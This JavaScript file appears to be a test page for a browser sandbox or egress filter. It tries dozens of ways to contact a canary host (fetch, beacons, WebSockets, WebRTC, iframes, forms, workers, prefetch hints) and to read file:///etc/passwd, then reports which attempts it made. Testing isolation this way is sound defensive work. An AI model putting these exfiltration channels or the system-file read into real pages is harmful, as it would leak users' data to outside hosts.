// The ways in which a hostile page tries to reach `host`. Each gets `mark`, a path that names the attempt, and may
// return a promise. What it throws does not matter: it is reported in any case, and the canary counts what arrived.
const { host, udpPort } = window.target;

const add = (name, members) => {
  const element = document.createElement(name);
  Object.assign(element, members);
  document.body.append(element);
  return element;
};

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const offerTo = async (iceServers) => {
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await pause(1500);
};

const inWorker = (code) =>
  new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = worker.onerror = resolve;
  });

const attempts = {
  fetch: (mark) => fetch(`http://${host}${mark}`),
  'fetch no-cors': (mark) => fetch(`http://${host}${mark}`, { mode: 'no-cors' }),
  'fetch post': (mark) => fetch(`http://${host}${mark}`, { method: 'POST', mode: 'no-cors', body: 'x' }),
  'fetch https': (mark) => fetch(`https://${host}${mark}`, { mode: 'no-cors' }),
  'fetch keepalive': (mark) => fetch(`http://${host}${mark}`, { mode: 'no-cors', keepalive: true }),
  'fetch by redirect': (mark) => fetch(`/redirect?to=http://${host}${mark}`, { mode: 'no-cors' }),
  'fetch by second redirect': (mark) =>
    fetch(`/redirect?to=/redirect?to=http://${host}${mark}`, { mode: 'no-cors' }),
  'fetch with credentials in the URL': (mark) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://u:p@${host}${mark}`);
    request.send();
  },
  xhr: (mark) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('GET', `http://${host}${mark}`);
      request.send();
    }),
  'xhr synchronous': (mark) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${host}${mark}`, false);
    request.send();
  },
  beacon: (mark) => {
    navigator.sendBeacon(`http://${host}${mark}`, 'x');
  },
  'event source': (mark) => {
    new EventSource(`http://${host}${mark}`);
  },
  websocket: (mark) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://${host}${mark}`);
      socket.onerror = socket.onopen = resolve;
    }),
  'websocket secure': (mark) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`wss://${host}${mark}`);
      socket.onerror = socket.onopen = resolve;
    }),
  webtransport: (mark) => new WebTransport(`https://${host}${mark}`).ready,
  image: (mark) => {
    add('img', { src: `http://${host}${mark}` });
  },
  'image set': (mark) => {
    add('img', { srcset: `http://${host}${mark} 1x` });
  },
  iframe: (mark) => {
    add('iframe', { src: `http://${host}${mark}` });
  },
  'iframe by redirect': (mark) => {
    add('iframe', { src: `/redirect?to=http://${host}${mark}` });
  },
  'iframe with meta refresh': (mark) => {
    add('iframe', { srcdoc: `<meta http-equiv=refresh content="0;url=http://${host}${mark}">` });
  },
  'iframe with data url': (mark) => {
    add('iframe', { src: `data:text/html,<img src="http://${host}${mark}">` });
  },
  'iframe navigated by script': (mark) => {
    const frame = add('iframe', {});
    frame.contentWindow.location = `http://${host}${mark}`;
  },
  object: (mark) => {
    add('object', { data: `http://${host}${mark}` });
  },
  embed: (mark) => {
    add('embed', { src: `http://${host}${mark}` });
  },
  script: (mark) => {
    add('script', { src: `http://${host}${mark}` });
  },
  'module import': (mark) => import(`http://${host}${mark}`),
  stylesheet: (mark) => {
    add('link', { rel: 'stylesheet', href: `http://${host}${mark}` });
  },
  'background image': (mark) => {
    document.body.style.backgroundImage = `url(http://${host}${mark})`;
  },
  'style import': (mark) => {
    add('style', { textContent: `@import "http://${host}${mark}";` });
  },
  font: (mark) => new FontFace('f', `url(http://${host}${mark})`).load(),
  video: (mark) => {
    add('video', { src: `http://${host}${mark}`, preload: 'auto' });
  },
  audio: (mark) => {
    add('audio', { src: `http://${host}${mark}`, preload: 'auto' });
  },
  icon: (mark) => {
    add('link', { rel: 'icon', href: `http://${host}${mark}` });
  },
  manifest: (mark) => {
    add('link', { rel: 'manifest', href: `http://${host}${mark}` });
  },
  preconnect: () => {
    add('link', { rel: 'preconnect', href: `http://${host}` });
  },
  'dns prefetch': () => {
    add('link', { rel: 'dns-prefetch', href: `//${host}` });
  },
  prefetch: (mark) => {
    add('link', { rel: 'prefetch', href: `http://${host}${mark}` });
  },
  preload: (mark) => {
    add('link', { rel: 'preload', as: 'script', href: `http://${host}${mark}` });
  },
  modulepreload: (mark) => {
    add('link', { rel: 'modulepreload', href: `http://${host}${mark}` });
  },
  'speculation rules': (mark) => {
    add('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({
        prefetch: [{ urls: [`http://${host}${mark}`], eagerness: 'immediate' }],
        prerender: [{ urls: [`http://${host}${mark}`], eagerness: 'immediate' }],
      }),
    });
  },
  'form in a frame': (mark) => {
    add('iframe', { name: 'frame' });
    add('form', { action: `http://${host}${mark}`, method: 'post', target: 'frame' }).submit();
  },
  'form in a new window': (mark) => {
    add('form', { action: `http://${host}${mark}`, target: '_blank' }).submit();
  },
  'link in a new window': (mark) => {
    add('a', { href: `http://${host}${mark}`, target: '_blank' }).click();
  },
  'link with ping': (mark) => {
    add('a', { href: '#', ping: `http://${host}${mark}` }).click();
  },
  'link to download': (mark) => {
    add('a', { href: `http://${host}${mark}`, download: 'x', target: '_blank' }).click();
  },
  'window.open': (mark) => {
    window.open(`http://${host}${mark}`);
  },
  'window.open of a clean frame': (mark) => {
    const frame = add('iframe', {});
    frame.contentWindow.open(`http://${host}${mark}`);
  },
  worker: (mark) =>
    inWorker(`fetch("http://${host}${mark}", { mode: "no-cors" }).finally(() => postMessage(1))`),
  'worker importScripts': (mark) =>
    inWorker(`try { importScripts("http://${host}${mark}") } finally { postMessage(1) }`),
  'worker websocket': (mark) =>
    inWorker(`const s = new WebSocket("ws://${host}${mark}"); s.onerror = s.onopen = () => postMessage(1)`),
  'shared worker': (mark) => {
    new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://${host}${mark}", { mode: "no-cors" })`])));
  },
  'service worker': (mark) => navigator.serviceWorker.register(`/service-worker.js?to=http://${host}${mark}`),
  'webrtc stun': () => offerTo([{ urls: `stun:${host.split(':')[0]}:${udpPort}` }]),
  'webrtc turn': () =>
    offerTo([
      { urls: `turn:${host}?transport=tcp`, username: 'u', credential: 'p' },
      { urls: `turn:${host.split(':')[0]}:${udpPort}`, username: 'u', credential: 'p' },
    ]),
  'file frame': () => {
    add('iframe', { src: 'file:///etc/passwd' });
  },
  'file fetch': () =>
    fetch('file:///etc/passwd')
      .then((r) => r.text())
      .then((t) => {
        document.title = `read ${t}`;
      }),
  'view source': (mark) => {
    add('iframe', { src: `view-source:http://${host}${mark}` });
  },
  ftp: (mark) => {
    add('iframe', { src: `ftp://${host}${mark}` });
  },
  report: () => {
    new ReportingObserver(() => {}).observe();
    add('img', { src: 'http://violates.the.policy.invalid/' });
  },
};

// All at once, two seconds for each, and then a report by asking the page's own site for `/tried/<name>`.
const names = Object.keys(attempts);
const reports = names.map(async (name) => {
  const word = encodeURIComponent(name);
  const attempt = (async () => attempts[name](`/canary/${word}`))().catch(() => {});
  await Promise.race([attempt, pause(2000)]);
  await fetch(`/tried/${word}`);
});
Promise.all(reports).then(() => fetch(`/done/${names.length}`));
